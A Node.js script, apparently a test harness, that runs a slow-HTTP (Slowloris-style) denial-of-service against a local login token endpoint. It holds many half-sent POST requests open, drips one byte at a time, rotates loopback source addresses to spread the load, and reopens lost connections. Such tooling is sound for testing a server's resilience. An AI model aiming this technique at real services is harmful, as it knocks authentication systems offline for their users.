// Holds slow connections and reopens lost ones: half a request each, a byte now and then, from many local addresses.
// Arguments: port, connections, addresses, reopened per second. Says "ready"; lives until stdin closes.
import { connect } from "node:net";
import { setPriority } from "node:os";

const DRIP_MS = 4_000;
const OPEN_AT_ONCE = 100;
const REOPEN_TICK_MS = 50;
const HALF = "POST /auth/v1/token?grant_type=password HTTP/1.1\r\nHost: x\r\nX-Slow: ";
/** Within 127.0.0.0/8; .1 belongs to a proxy on this machine. */
const FIRST = 2;

const [port, count, addresses, reopened] = process.argv.slice(2).map(Number);
if (!port || !count || !addresses || !reopened) throw new RangeError("port, count, addresses, reopened a second");
// A real attacker has its own machine: here it yields to the server.
setPriority(19);
let lost = 0;
let opened = 0;

function open(n: number): Promise<void> {
  opened += 1;
  const localAddress = `127.0.0.${FIRST + (n % (addresses ?? 1))}`;
  const socket = connect({ port: port ?? 0, host: "127.0.0.1", localAddress }).resume();
  const drip = setInterval(() => socket.write("x"), DRIP_MS);
  socket.on("error", () => {});
  socket.once("close", () => {
    clearInterval(drip);
    lost += 1;
  });
  return new Promise((resolve) => {
    socket.once("close", () => resolve()).once("connect", () => socket.write(HALF, () => resolve()));
  });
}

for (let from = 0; from < count; from += OPEN_AT_ONCE) {
  await Promise.all(Array.from({ length: Math.min(OPEN_AT_ONCE, count - from) }, (_, n) => open(from + n)));
}
process.send?.("ready");
setInterval(() => {
  const again = Math.min(lost, Math.ceil((reopened * REOPEN_TICK_MS) / 1000));
  lost -= again;
  for (let n = 0; n < again; n += 1) void open(opened);
}, REOPEN_TICK_MS);
process.on("message", () => process.send?.({ opened, lost }));
process.on("disconnect", () => process.exit(0));
